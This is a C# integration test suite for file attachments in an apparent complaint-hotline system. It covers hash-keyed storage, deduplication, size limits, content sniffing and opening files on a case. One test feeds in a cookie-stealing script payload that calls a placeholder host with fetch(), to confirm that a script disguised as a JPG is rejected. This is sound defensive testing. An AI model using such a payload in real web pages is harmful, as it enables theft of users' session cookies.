using Hotline.Platform.Attachments;
using System.Security.Cryptography;
using System.Text;
using Hotline.Intake.CaseView;
using Hotline.Intake.Domain;
using Hotline.Platform;
using Hotline.Testing;
using Microsoft.Extensions.DependencyInjection;

namespace Hotline.IntegrationTests.Intake;

public abstract class AttachmentTests<TApp>(TApp app) where TApp : HotlineAppFactory
{
    private static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x00, 0x01];

    private static readonly byte[] Pdf = Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    private string UploadRoot => Path.Combine(app.DataDirectory, "uploads", "attachments");

    private Task<StagedAttachment> StageAsync(byte[] content, string fileName) =>
        StageAsync(new MemoryStream(content), fileName, content.Length);

    private Task<StagedAttachment> StageAsync(Stream content, string fileName, long declaredSize) =>
        app.Service<AttachmentStore>().StageAsync(content, fileName, declaredSize);

    private static string Sha256(byte[] content) => Convert.ToHexStringLower(SHA256.HashData(content));

    private string[] TempFiles() => Directory.Exists(UploadRoot) ? Directory.GetFiles(UploadRoot, "tmp-*") : [];

    [Fact]
    public async Task A_png_and_a_pdf_are_stored_under_the_data_directory_by_their_hash()
    {
        var png = await StageAsync(Png, "现场照片.png");
        var pdf = await StageAsync(Pdf, @"C:\Users\张三\材料.pdf");

        Assert.Equal(("image/png", Png.Length, Sha256(Png)), (png.ContentType, (int)png.Size, png.Sha256));
        Assert.Equal(("application/pdf", Pdf.Length, Sha256(Pdf)), (pdf.ContentType, (int)pdf.Size, pdf.Sha256));
        // Only the file's own name is kept, never a path the browser sent.
        Assert.Equal("材料.pdf", pdf.FileName);
        Assert.Equal(Png, await File.ReadAllBytesAsync(Path.Combine(UploadRoot, png.Sha256[..2], png.Sha256)));
        Assert.Equal(Pdf, await File.ReadAllBytesAsync(Path.Combine(UploadRoot, pdf.Sha256[..2], pdf.Sha256)));
        Assert.Empty(TempFiles());
    }

    [Fact]
    public async Task A_file_arriving_a_byte_at_a_time_is_still_recognised()
    {
        var staged = await StageAsync(new TrickleStream(Pdf), "分段上传.pdf", Pdf.Length);
        Assert.Equal(("application/pdf", Sha256(Pdf)), (staged.ContentType, staged.Sha256));
    }

    /// <summary>Returns one byte per read, as a slow network stream may.</summary>
    private sealed class TrickleStream(byte[] content) : MemoryStream(content)
    {
        public override int Read(byte[] buffer, int offset, int count) => base.Read(buffer, offset, Math.Min(count, 1));

        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default) =>
            base.ReadAsync(buffer[..Math.Min(buffer.Length, 1)], cancellationToken);

        public override Task<int> ReadAsync(byte[] buffer, int offset, int count, CancellationToken cancellationToken) =>
            base.ReadAsync(buffer, offset, Math.Min(count, 1), cancellationToken);
    }

    [Fact]
    public async Task The_same_file_uploaded_twice_is_stored_once()
    {
        var content = Png.Concat(Encoding.ASCII.GetBytes("same-file-twice")).ToArray();
        var first = await StageAsync(content, "a.png");
        var second = await StageAsync(content, "b.png");

        Assert.Equal(first.Sha256, second.Sha256);
        Assert.Equal(("a.png", "b.png"), (first.FileName, second.FileName));
        Assert.Single(Directory.GetFiles(UploadRoot, "*", SearchOption.AllDirectories), f => Path.GetFileName(f) == first.Sha256);
        Assert.Empty(TempFiles());
    }

    [Fact]
    public async Task A_script_renamed_to_jpg_is_refused_by_its_content()
    {
        var script = Encoding.UTF8.GetBytes("<script>fetch('https://example.invalid/'+document.cookie)</script>");
        var ex = await Assert.ThrowsAsync<BusinessRuleException>(() => StageAsync(script, "照片.jpg"));
        Assert.Equal($"文件“照片.jpg”被拒绝：{AttachmentTypes.RefusedMessage}", ex.Message);
        Assert.False(File.Exists(Path.Combine(UploadRoot, Sha256(script)[..2], Sha256(script))));
        Assert.Empty(TempFiles());
    }

    [Fact]
    public async Task A_file_over_ten_megabytes_is_refused_whatever_size_the_browser_claims()
    {
        var big = new byte[AttachmentStore.MaxBytes + 1];
        Png.CopyTo(big, 0);

        var declared = await Assert.ThrowsAsync<BusinessRuleException>(() => StageAsync(new MemoryStream(big), "大图.png", big.Length));
        Assert.Equal("文件“大图.png”超过 10 MB，无法上传。", declared.Message);
        // A client that understates the size is caught while reading.
        var understated = await Assert.ThrowsAsync<BusinessRuleException>(() => StageAsync(new MemoryStream(big), "大图.png", 1024));
        Assert.Equal("文件“大图.png”超过 10 MB，无法上传。", understated.Message);
        Assert.False(File.Exists(Path.Combine(UploadRoot, Sha256(big)[..2], Sha256(big))));
        Assert.Empty(TempFiles());
    }

    [Fact]
    public async Task Staged_attachments_are_listed_on_the_registered_case_and_can_be_opened()
    {
        var photo = await StageAsync(Png.Concat(Encoding.ASCII.GetBytes("case-photo")).ToArray(), "电梯故障.png");
        var letter = await StageAsync(Pdf, "投诉信.pdf");
        var input = await IntakeTestData.ComplaintAsync(app, phone: "13700000101");
        var result = await IntakeTestData.RegisterAsync(app, input with { Attachments = [photo, letter] });

        var detail = await app.AsUserAsync("agent", sp => sp.GetRequiredService<CaseDetails>().GetAsync(result.CaseId));

        Assert.NotNull(detail);
        Assert.Equal(
            [("电梯故障.png", "image/png", photo.Size), ("投诉信.pdf", "application/pdf", letter.Size)],
            detail.Attachments.Select(a => (a.FileName, a.ContentType, a.Size)).OrderBy(a => a.ContentType == "image/png" ? 0 : 1).ToList());
        var pdfId = detail.Attachments.Single(a => a.FileName == "投诉信.pdf").Id;
        var bytes = await app.AsUserAsync("assessor", async sp =>
        {
            var opened = await sp.GetRequiredService<CaseDetails>().OpenAttachmentAsync(pdfId);
            Assert.NotNull(opened);
            await using var content = opened.Value.Content;
            using var copy = new MemoryStream();
            await content.CopyToAsync(copy);
            return copy.ToArray();
        });
        Assert.Equal(Pdf, bytes);
    }
}

public sealed class SqliteAttachmentTests(SqliteApp app) : AttachmentTests<SqliteApp>(app), IClassFixture<SqliteApp>;

public sealed class MariaDbAttachmentTests(MariaDbApp app) : AttachmentTests<MariaDbApp>(app), IClassFixture<MariaDbApp>;
